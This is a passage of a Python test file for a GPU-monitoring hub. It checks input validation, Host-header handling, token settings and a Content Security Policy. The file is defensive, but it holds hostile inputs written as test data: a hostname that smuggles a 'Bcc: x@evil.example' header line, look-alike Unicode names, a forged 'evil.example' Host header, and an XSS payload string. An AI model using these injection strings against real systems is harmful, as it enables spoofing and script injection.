    spoof["host"]["hostname"] = "gpu-c"
    status, body = _post(ingest_server.base_url, spoof, value)
    assert status == 403 and body["error"].startswith("host.hostname: 'gpu-c' is the name of another server")


@pytest.mark.parametrize("name", ["gpu-07\nBcc: x@evil.example", "gpu\u200e-07", "gpu-\u0430", "gpu 07", "\ufeffgpu",
                                  "gpu\u2028x"])
def test_l10_hostnames_are_rfc1123_ish(name):
    """L10/M3: newlines, spaces, invisible marks and look-alike letters are refused in host names."""
    from server_monitor.storage.contract import ContractError, validate_report

    report = sample_report("ok-host")
    report["host"]["hostname"] = name
    with pytest.raises(ContractError, match=r"^host\.hostname: "):
        validate_report(report)


@pytest.mark.parametrize("mark", ["\u200e", "\u200f", "\u061c", "\u200b", "\ufeff", "\u2028", "\u2029"])
def test_l10_invisible_marks_are_refused_in_names(mark):
    """L10: LRM, RLM, ALM, ZWSP, BOM, LS and PS never reach a stored name (GPU model, process)."""
    from server_monitor.storage.contract import ContractError, validate_report

    report = sample_report("ok-host", gpus=1, processes=1)
    report["gpus"][0]["name"] = "NVIDIA" + mark + " H100"
    report["processes"][0]["process_name"] = "py" + mark + "thon"
    try:
        clean = validate_report(report)
    except ContractError as exc:
        assert "U+" in str(exc)
    else:
        assert mark not in json.dumps(clean, ensure_ascii=False)


def test_l10_agent_sends_a_name_the_hub_accepts():
    """L10: the agent turns a configured or kernel host name with other characters into one the hub accepts."""
    from monitor_agent.host import hub_hostname

    from server_monitor.storage.contract import HOSTNAME_PATTERN

    assert hub_hostname("GPU Box\n1") == "GPU-Box-1"
    assert hub_hostname("gpu-\u0430") == "gpu--"
    assert re.fullmatch(HOSTNAME_PATTERN, hub_hostname("..."))


# -- I5 / I6 / I8 ------------------------------------------------------------------------------------
def test_i5_invite_link_uses_the_configured_public_url(hub_config):
    """I5: with server.public_url set, a forged Host header does not change the invite link."""
    from conftest import make_datasette

    _set_config(hub_config, **{"server.public_url": "https://monitor.example.org/"})
    schema.migrate(hub_config.db_path)
    admin = Client(make_datasette(hub_config))
    assert admin.login(hub_config.get("auth.username"), hub_config.password).status_code == 302
    created = admin.post("/admin/invites", headers={"Host": "evil.example"},
                         data={"csrftoken": _token(admin, "/admin"), "role": "viewer", "max_uses": "1", "hours": "24"})
    link = re.search(r'id="invite-link" readonly value="([^"]+)"', created.text).group(1)
    assert link.startswith("https://monitor.example.org/register?code=")


def test_i6_gzip_with_trailing_junk_is_refused():
    """I6: a gzip body followed by other bytes is a 400, not silently accepted."""
    import gzip

    import ingest

    body = gzip.compress(b'{"a": 1}')
    assert ingest.decode_body(body, "gzip", 1 << 20) == {"a": 1}
    with pytest.raises(ingest.HTTPError) as refused:
        ingest.decode_body(body + b"TRAILINGJUNK", "gzip", 1 << 20)
    assert refused.value.status == 400 and "trailing data" in str(refused.value)


def test_i8_shared_agent_token_can_be_turned_off(hub_config):
    """I8: agent.shared_token_enabled: false refuses the shared token (401 saying why); per-host tokens work."""
    import io

    import ingest

    from server_monitor.core import config as config_mod
    from server_monitor.auth import tokens
    from server_monitor.storage.store import machine_identity

    _set_config(hub_config, **{"agent.shared_token_enabled": False})
    app = ingest.make_application(config_mod.load(hub_config.path))
    report = sample_report("only-own-token")
    _, own = tokens.issue(tokens.connect(hub_config.auth_db_path), machine_identity(report["host"]), "x")

    def post(token):
        body = json.dumps(report).encode()
        environ = {"PATH_INFO": "/api/report", "REQUEST_METHOD": "POST", "CONTENT_LENGTH": str(len(body)),
                   "HTTP_AUTHORIZATION": "Bearer " + token, "wsgi.input": io.BytesIO(body)}
        try:
            return app.handle(environ)[:2]
        except ingest.HTTPError as exc:
            return exc.status, str(exc)

    status, message = post(hub_config.get("agent.token"))
    assert status == 401 and "shared agent token is disabled" in str(message)  # handle() answers a body dict
    assert post(own)[0] == 201


# -- I3: 500s on bad input -----------------------------------------------------------------------------
def test_i3_bad_input_to_datasette_pages_is_a_4xx(admin_and_vera):
    """I3: POST to a read-only canned query or a table, and ?_sort= on an unknown column, answered
    500; now 405 (with Allow) and 400 naming the problem. The admin write queries still take POST."""
    admin, _ = admin_and_vera
    token = _token(admin, "/admin")
    for path in ("/monitor/servers", "/monitor/servers.json", "/monitor/host_samples", "/monitor"):
        response = admin.post(path, data={"csrftoken": token})
        assert response.status_code == 405 and response.headers["allow"] == "GET, HEAD", path
    for path in ("/monitor/host_samples.json?_sort=nope", "/monitor/host_samples?_sort_desc=nope"):
        response = admin.get(path)
        assert response.status_code == 400 and "Cannot sort table by nope" in response.text, path
    done = admin.post("/monitor/admin_announce", data={"csrftoken": token, "level": "info", "message": "hi", "hours": "1"})
    assert done.status_code == 302


# -- I1: script-src on Datasette's pages ---------------------------------------------------------------
INJECTED = ('<script>window.__pwned = 1</script><img src="/nope.png" onerror="window.__pwned2 = 1">'
            '<a id="jsl" href="javascript:window.__pwned3 = 1">x</a>')


def test_i1_datasette_pages_block_injected_script_but_keep_their_own(page, hub_process, hub_config):
    """I1: on Datasette's pages (canned query, table, SQL editor) an injected inline script, an
    onerror attribute and a javascript: link do not run (the review's csp_check ran all three);
    Datasette's own scripts (table facets flag, CodeMirror editor) still work."""
    from browser import login, push

    push(hub_process, hub_config, sample_report("csp-host", gpus=1, processes=1))
    login(page, hub_process.base_url, hub_config.get("auth.username"), hub_config.password)

    def inject(route):
        response = route.fetch()
        route.fulfill(response=response, body=response.text().replace("</body>", INJECTED + "</body>"))

    page.route("**/monitor/**", inject)
    page.route("**/monitor?**", inject)
    checks = {"/monitor/servers": "true", "/monitor/host_samples": "typeof DATASETTE_ALLOW_FACET === 'boolean'",
              "/monitor?sql=select+1": "document.querySelector('.CodeMirror') !== null"}
    for path, own_code_ran in checks.items():
        page.console_errors.clear()
        page.goto(hub_process.base_url + path)
        page.wait_for_load_state("load")
        page.click("#jsl")
        page.wait_for_timeout(300)
        assert page.evaluate("[window.__pwned, window.__pwned2, window.__pwned3]") == [None, None, None], path
        assert page.evaluate(own_code_ran), path
        blocked = [e for e in page.console_errors if "Content Security Policy" in e]
        assert len(blocked) >= 2, (path, page.console_errors)  # the injected ones, reported
        assert not any("DATASETTE_ALLOW_FACET" in e or "datasette-sql-editor" in e for e in blocked), blocked
